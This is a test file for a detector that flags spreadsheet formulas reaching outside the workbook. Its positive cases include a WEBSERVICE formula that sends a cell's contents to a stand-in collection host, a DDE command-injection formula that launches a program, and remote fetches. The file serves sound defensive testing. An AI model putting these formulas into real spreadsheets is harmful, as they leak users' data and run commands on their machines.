import { formulaOf } from '../../sync/stores/excel/formulas';
import { formulaColumns } from '../../sync/stores/excel/sheet';
import { columnOf } from '../../register/columns';
import { reachesOutside } from '../../register/formula-danger';
import { region } from '../kit/builders';

describe('formulas that reach outside the workbook', () => {
  it.each([
    '=WEBSERVICE("https://collect.caseworkcharity.example/?"&H2)',
    '_xlfn.WEBSERVICE(A1)',
    'HYPERLINK("https://collect.caseworkcharity.example/"&A2,"Open")',
    "='C:\\Users\\me\\[Book1.xlsx]Sheet1'!A1",
    '[1]Sheet1!$A$1',
    "=cmd|' /C calc'!A0",
    'IF(TRUE,RTD("x.y",,"z"),0)',
    '1+IMAGE("https://caseworkcharity.example/x.png")',
  ])('SHT43 finds %s', (formula) => {
    expect(reachesOutside(formula)).toBe(true);
  });

  it.each([
    '=A2&" "&B2',
    "=Eastmere!A2+'North shire'!B3",
    'Risks_NS[[#This Row],[Level]]&"!"',
    '"see [Book.xlsx]Sheet1!A1 and WEBSERVICE(x) and a|b!c"',
    'SUM(Risks_NS[Level])/COUNTA(Eastmere!A:A)',
    'RECALL(A1)',
  ])('SHT43 leaves %s alone', (formula) => {
    expect(reachesOutside(formula)).toBe(false);
  });

  it('SHT43 finds nothing in the formulas of the service itself', () => {
    const place = {
      region: region('NS'),
      table: 'Risks_NS',
      heading: (key: Parameters<typeof columnOf>[0]) => columnOf(key).heading,
    };
    const ours = formulaColumns.flatMap(({ key }) => [
      formulaOf(key, place, 'file'),
      formulaOf(key, place, 'api'),
    ]);

    expect(ours.filter(reachesOutside)).toEqual([]);
  });
});
